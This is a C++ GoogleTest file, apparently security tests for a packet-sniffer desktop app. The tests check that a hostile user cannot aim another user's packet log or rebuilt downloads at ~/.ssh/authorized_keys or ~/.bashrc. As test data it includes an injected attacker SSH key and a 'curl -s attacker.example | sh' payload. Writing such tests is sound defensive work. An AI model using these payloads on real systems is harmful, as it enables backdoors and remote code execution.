    void expectTheVictimsFilesUntouched() {
        const fs::path home = desktop().home();
        EXPECT_EQ(fileContents(home / ".ssh" / "authorized_keys"), VictimKey);
        EXPECT_EQ(fileContents(home / ".bashrc"), VictimShell);
        // The victim's settings are the victim's alone.
        const fs::path own = home / ".config" / "quillharbour" / SettingsName;
        struct stat facts {};
        ASSERT_EQ(::stat(own.c_str(), &facts), 0) << own;
        EXPECT_EQ(facts.st_uid, desktop().user().uid);
        EXPECT_EQ(facts.st_mode & 07777, 0600u);
        EXPECT_EQ(facts.st_size, static_cast<off_t>(sizeof(SettingsRecord)));
    }

    static constexpr const char* VictimKey = "ssh-ed25519 AAAAvictim victim@desk\n";
    static constexpr const char* VictimShell = "# the victim's shell settings\n";
    fs::path installed_;
    fs::path shared_;
    std::unique_ptr<ThrowAwayUser> attacker_;
    std::unique_ptr<ThrowAwayUser> victim_;
};

TEST_P(HostileMember, CannotAimTheVictimsPacketLogAtTheirFiles) {
    SettingsRecord aimed = defaultSettings();
    aimed.showModeChoice = 0;
    aimed.soundOnNewPacket = 0;
    setTextField(aimed.interfaceAddress, "127.0.0.1");
    aimed.autoLog = 1;
    aimed.logDataText = 1;
    aimed.logIntervalSeconds = 1;
    setTextField(aimed.logFilePath, (desktop().home() / ".ssh" / "authorized_keys").string());
    aim(aimed);

    ASSERT_TRUE(start(installed_));
    const std::optional<unsigned long> window = reachModeWindow(true);
    ASSERT_TRUE(window) << scene();
    ASSERT_TRUE(press(*window, {"Return"}));
    UdpSink sink(40820);
    ASSERT_TRUE(sink.bound());
    const auto attack = [] {
        sendLoopbackUdp(40820, "\nssh-ed25519 AAAAattacker attacker@away\n");
    };
    ASSERT_TRUE(waitForListed(*window, 1, attack)) << scene();
    // Long enough for a log written every second to have been written twice.
    waitFor(
        [&] {
            attack();
            return false;
        },
        2500ms);
    ASSERT_TRUE(closeAndExitCleanly(*window));
    expectTheVictimsFilesUntouched();
}

TEST_P(HostileMember, CannotAimTheVictimsRebuiltFilesAtTheirShellSettings) {
    SettingsRecord aimed = defaultSettings();
    aimed.showModeChoice = 0;
    aimed.snifferMode = 1;
    setTextField(aimed.interfaceAddress, "127.0.0.1");
    setTextField(aimed.fileOutputDirectory, desktop().home().string() + "/");
    setTextField(aimed.fileNameTemplate, "");
    aimed.fileOverwrite = 1;
    aimed.ackTimeoutMs = 300;
    aim(aimed);

    ASSERT_TRUE(start(installed_));
    const std::optional<unsigned long> window = reachModeWindow(false);
    ASSERT_TRUE(window) << scene();
    ASSERT_TRUE(press(*window, {"Return"}));
    ASSERT_TRUE(waitFor([&] { return capturing(program_.pid(), desktop().user().uid); }, 10s))
        << "Start opened no capture; " << scene();

    // The attacker's own server, and a download from it.
    const std::string payload = "curl -s attacker.example | sh  # ran as the victim\n";
    LoopbackHttpServer server(
        "HTTP/1.1 200 OK\r\nContent-Type: application/bashrc\r\n"
        "Content-Length: " +
        std::to_string(payload.size()) + "\r\nConnection: close\r\n\r\n" + payload);
    ASSERT_EQ(runProgram({"curl", "-s", "-o", "/dev/null",
                          "http://127.0.0.1:" + std::to_string(server.port()) + "/rc"}),
              0);
    // The download is rebuilt somewhere in the victim's home (the download folder).
    const auto rebuilt = [&] {
        std::error_code error;
        for (const auto& entry : fs::directory_iterator(desktop().home(), error)) {
            if (entry.is_regular_file() && fileContents(entry.path()) == payload) {
                return true;
            }
        }
        return false;
    };
    ASSERT_TRUE(waitFor(rebuilt, 30s))
        << "nothing rebuilt; the home holds:" << filesIn(desktop().home()) << "; " << scene();
    ASSERT_TRUE(closeAndExitCleanly(*window));
    expectTheVictimsFilesUntouched();
}

INSTANTIATE_TEST_SUITE_P(Desktops, HostileMember, testing::Bool(),
                         [](const testing::TestParamInfo<bool>& info) {
                             return info.param ? "WithWindowManager" : "WithoutWindowManager";
                         });

INSTANTIATE_TEST_SUITE_P(Desktops, Journey, testing::Bool(),
                         [](const testing::TestParamInfo<bool>& info) {
                             return info.param ? "WithWindowManager" : "WithoutWindowManager";
                         });

}  // namespace
}  // namespace qhs::journey
